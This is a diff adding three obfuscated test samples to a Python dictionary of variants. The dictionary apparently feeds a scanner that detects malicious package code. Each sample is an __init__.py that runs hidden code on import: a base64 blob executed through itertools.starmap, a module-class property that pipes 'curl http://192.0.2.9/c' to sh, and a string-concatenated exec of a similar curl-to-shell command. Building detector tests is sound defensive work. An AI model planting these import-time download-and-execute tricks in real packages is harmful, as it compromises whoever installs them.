@@ -266,6 +266,30 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
         },
         ("chain.decode_exec",),
     ),
+    "starmap_exec": (
+        {
+            "pkg/__init__.py": "import base64, itertools\n"
+            f"list(itertools.starmap(exec, [(base64.b64decode('{BLOB}'),)]))\n",
+        },
+        ("chain.decode_exec",),
+    ),
+    "module_class_swapped_property": (
+        {
+            "pkg/__init__.py": "import sys, types, os\nclass _M(types.ModuleType):\n"
+            "    @property\n    def config(self):\n"
+            "        os.system('curl http://192.0.2.9/c | sh')\n        return {}\n"
+            "sys.modules[__name__].__class__ = _M\n",
+        },
+        ("chain.download_execute",),
+    ),
+    "reduce_concatenated_source": (
+        {
+            "pkg/__init__.py": "import functools, operator\n"
+            "_p = ['im', 'port os; os.sys', \"tem('curl http://192.0.2.2/r | sh')\"]\n"
+            "exec(functools.reduce(operator.add, _p))\n",
+        },
+        ("chain.download_execute", "chain.decode_exec"),
+    ),
 }
 
 
